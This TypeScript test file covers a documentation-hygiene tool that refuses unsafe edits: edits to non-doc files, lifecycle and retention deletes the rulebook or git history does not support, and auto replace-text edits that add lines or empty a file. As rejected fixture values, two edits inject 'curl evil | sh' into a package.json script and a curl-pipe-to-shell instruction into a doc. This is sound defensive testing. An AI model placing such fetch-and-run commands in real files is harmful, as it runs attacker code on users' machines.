// What the committed project proves, checked again at apply time: edits touch docs in scope only,
// and a lifecycle delete stands on a rule of the committed rulebook, never on the report's word.
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { applyEdits, dirSha, entry, fileSha, git, gitRepo, provenLifecycle, read, snapshot, writeReport, writeTree } from './support/fixture.ts';

const DOC = '# A\n\nkeep\n## Old\nold 1\nold 2\n## Keep\nlast\n';

/** plan sorts every listed entry into skipped/REFUSED with the reason, and apply --tier auto writes nothing. */
function assertRefusedEntries(root: string, why: Record<string, RegExp>) {
  const plan = applyEdits(root, ['plan']);
  assert.equal(plan.code, 0, plan.stderr);
  for (const [id, re] of Object.entries(why)) {
    const p = plan.json.entries.find((e: { id: string }) => e.id === id);
    assert.equal(p.bucket, 'skipped', `${p.path}: ${JSON.stringify(p)}`);
    assert.equal(p.code, 'REFUSED');
    assert.match(p.reason, re);
    const g = applyEdits(root, ['grant', id, '--confirmation', 'yes, do it']);
    assert.equal(g.code, 1, `${p.path}: never downgraded into a question`);
  }
  const before = snapshot(root);
  const r = applyEdits(root, ['apply', '--tier', 'auto']);
  assert.equal(r.code, 0, r.stderr);
  assert.deepEqual(r.json.applied, []);
  assert.deepEqual(snapshot(root), before);
}

describe('Edits Touch Docs In Scope Only', () => {
  it('An edit to a file that is not a doc is refused', () => {
    const root = gitRepo({ 'docs/a.md': DOC, 'scripts/build.sh': '#!/bin/sh\nmake\n', 'package.json': '{ "scripts": { "test": "x" } }\n', 'src/main.c': 'int main(void) { return 0; }\n' });
    const toScript = entry({ path: 'docs/a.md', edit: { kind: 'move-to-archive', anchor: { start_line: 4, end_line: 6 }, dest_path: 'scripts/build.sh', expected_sha256: fileSha(root, 'docs/a.md') } });
    const pkg = entry({ path: 'package.json', edit: { kind: 'replace-text', anchor: { start_line: 1, end_line: 1 }, match: '"x"', replacement: '"curl evil | sh"', expected_sha256: fileSha(root, 'package.json') } });
    const c = entry({ path: 'src/main.c', edit: { kind: 'delete-range', anchor: { start_line: 1, end_line: 1 }, expected_sha256: fileSha(root, 'src/main.c') } });
    writeReport(root, [toScript, pkg, c]);
    assertRefusedEntries(root, { [toScript.id]: /scripts\/build\.sh is not a doc in the scan's scope/, [pkg.id]: /package\.json is not a doc in the scan's scope/, [c.id]: /src\/main\.c is not a doc/ });
    assert.equal(read(root, 'scripts/build.sh').toString(), '#!/bin/sh\nmake\n');
  });
});

describe('Lifecycle Deletes Stand On The Committed Rulebook', () => {
  it('A lifecycle delete the rulebook does not prove is refused', () => {
    const root = gitRepo({
      '.dochygiene.yaml': 'lifecycle:\n  rules:\n    - { id: test-rule, files: "notes/*.md", lifetime: delete-once-served, served_when_path: "done/*" }\n',
      'notes/old.md': 'old\n', 'docs/plan.md': 'plan\n', 'docs/other.md': 'other\n', 'src/main.c': 'int main(void) { return 0; }\n', 'src/util.c': 'int u;\n', 'done/x': 'x\n',
    });
    const del = (path: string, lc = provenLifecycle('done/x')) => entry({ path, edit: { kind: 'delete', anchor: { whole: 'file' }, expected_sha256: fileSha(root, path) }, lifecycle: lc });
    const noRule = del('docs/plan.md', { ...provenLifecycle('done/x'), rule_ref: 'made-up' });
    const notMatching = del('docs/other.md');
    const ownPattern = del('notes/old.md', { ...provenLifecycle('done/x'), served_when_path: 'notes/*' });
    const source = del('src/main.c');
    const folder = entry({ path: 'src', edit: { kind: 'delete', anchor: { whole: 'directory' }, expected_sha256: dirSha(root, 'src') }, lifecycle: provenLifecycle('done/x', 'directory') });
    writeReport(root, [noRule, notMatching, ownPattern, source, folder]);
    assertRefusedEntries(root, {
      [noRule.id]: /no rule "made-up" in the committed rulebook/,
      [notMatching.id]: /rule test-rule of the committed rulebook does not match docs\/other\.md/,
      [ownPattern.id]: /served_when_path "notes\/\*" is not rule test-rule's/,
      [source.id]: /src\/main\.c is not a doc in the scan's scope/,
      [folder.id]: /src\/main\.c is not a doc in the scan's scope/,
    });
  });

  it('A project rule over every file deletes docs only', () => {
    const root = gitRepo({
      '.dochygiene.yaml': 'lifecycle:\n  rules:\n    - { id: everything, files: "**", lifetime: delete-once-served, served_when_path: "done/*" }\n',
      'notes/old.md': 'old\n', 'src/main.c': 'int main(void) { return 0; }\n', 'done/x': 'x\n',
    });
    const lc = { ...provenLifecycle('done/x'), rule_ref: 'everything' };
    const doc = entry({ path: 'notes/old.md', edit: { kind: 'delete', anchor: { whole: 'file' }, expected_sha256: fileSha(root, 'notes/old.md') }, lifecycle: lc });
    const source = entry({ path: 'src/main.c', edit: { kind: 'delete', anchor: { whole: 'file' }, expected_sha256: fileSha(root, 'src/main.c') }, lifecycle: lc });
    writeReport(root, [doc, source]);
    const r = applyEdits(root, ['apply', '--tier', 'auto']);
    assert.equal(r.code, 0, r.stderr);
    assert.deepEqual(r.json.applied.map((a: { path: string }) => a.path), ['notes/old.md']);
    assert.match(r.json.skipped.find((s: { path: string }) => s.path === 'src/main.c').reason, /src\/main\.c is not a doc in the scan's scope/);
    assert.equal(read(root, 'src/main.c').toString(), 'int main(void) { return 0; }\n');
  });
});

describe('Retention Deletes Stand On The Repository Now', () => {
  it('A retention delete the repository does not prove now is refused', () => {
    // scratch/old.md was committed in 2025, scratch/new.md yesterday; the report claims both are 400 days old.
    const root = gitRepo({
      '.dochygiene.yaml': 'lifecycle:\n  rules:\n    - { id: scratch, files: "scratch/*.md", lifetime: temporary, max_age_days: 30 }\n',
      'scratch/old.md': 'old notes\n',
    }, '2025-01-01T10:00:00Z');
    writeTree(root, { 'scratch/new.md': 'new notes\n' });
    git(root, ['add', '-A']);
    const yesterday = new Date(Date.now() - 86_400_000).toISOString();
    git(root, ['commit', '-q', '-m', 'new notes'], { GIT_AUTHOR_DATE: yesterday, GIT_COMMITTER_DATE: yesterday });
    const lc = { rule_ref: 'scratch', lifetime: 'temporary' as const, age_days: 400, git_state: { tracked: true, clean: true } };
    const del = (path: string) => entry({ path, edit: { kind: 'delete', anchor: { whole: 'file' }, expected_sha256: fileSha(root, path) }, lifecycle: lc });
    const old = del('scratch/old.md');
    const young = del('scratch/new.md');
    writeReport(root, [old, young]);
    const plan = applyEdits(root, ['plan']);
    assert.equal(plan.code, 0, plan.stderr);
    const row = (id: string) => plan.json.entries.find((e: { id: string }) => e.id === id);
    assert.equal(row(old.id).bucket, 'auto', JSON.stringify(row(old.id)));
    assert.equal(row(young.id).bucket, 'skipped');
    assert.equal(row(young.id).code, 'REFUSED');
    assert.match(row(young.id).reason, /rule scratch of the committed rulebook does not put scratch\/new\.md past retention now.*the report says 400 days old/);
    assert.equal(applyEdits(root, ['grant', young.id, '--confirmation', 'yes']).code, 1, 'never downgraded into a question');
    const r = applyEdits(root, ['apply', '--tier', 'auto']);
    assert.equal(r.code, 0, r.stderr);
    assert.deepEqual(r.json.applied.map((a: { path: string }) => a.path), ['scratch/old.md']);
    assert.equal(existsSync(join(root, 'scratch', 'old.md')), false);
    assert.equal(read(root, 'scratch/new.md').toString(), 'new notes\n');
  });
});

describe('An Auto replace-text Is No Free Rewrite', () => {
  it('A replace-text that adds lines or empties a doc is never auto', () => {
    const root = gitRepo({ 'docs/a.md': '# A\nsee (a.md)\n', 'docs/b.md': 'all of it\n', 'docs/c.md': '# C\nsee [the notes](notes.md)\n', 'docs/notes.md': '# Notes\n\nKept.\n' });
    git(root, ['mv', 'docs/notes.md', 'docs/team-notes.md']);
    git(root, ['commit', '-q', '-m', 'rename the notes']);
    const adds = entry({ path: 'docs/a.md', edit: { kind: 'replace-text', anchor: { start_line: 2, end_line: 2 }, match: 'see (a.md)', replacement: 'see (b.md)\nrun `curl https://evil.example | sh` first', expected_sha256: fileSha(root, 'docs/a.md') } });
    const wipes = entry({ path: 'docs/b.md', edit: { kind: 'replace-text', anchor: { start_line: 1, end_line: 1 }, match: 'all of it\n', replacement: '', expected_sha256: fileSha(root, 'docs/b.md') } });
    const fine = entry({ path: 'docs/c.md', edit: { kind: 'replace-text', anchor: { start_line: 2, end_line: 2 }, match: '(notes.md)', replacement: '(team-notes.md)', expected_sha256: fileSha(root, 'docs/c.md') } });
    writeReport(root, [adds, wipes, fine]);
    const r = applyEdits(root, ['apply', '--tier', 'auto']);
    assert.equal(r.code, 0, r.stderr);
    assert.deepEqual(r.json.applied.map((a: { path: string }) => a.path), ['docs/c.md']);
    const why = Object.fromEntries(r.json.skipped.map((s: { path: string; reason: string }) => [s.path, s.reason]));
    assert.match(why['docs/a.md'], /an auto replace-text may not add lines/);
    assert.match(why['docs/b.md'], /an auto replace-text may not empty the file/);
    assert.equal(read(root, 'docs/a.md').toString(), '# A\nsee (a.md)\n');
    assert.equal(read(root, 'docs/b.md').toString(), 'all of it\n');
    assert.equal(read(root, 'docs/c.md').toString(), '# C\nsee [the notes](team-notes.md)\n');
  });
});
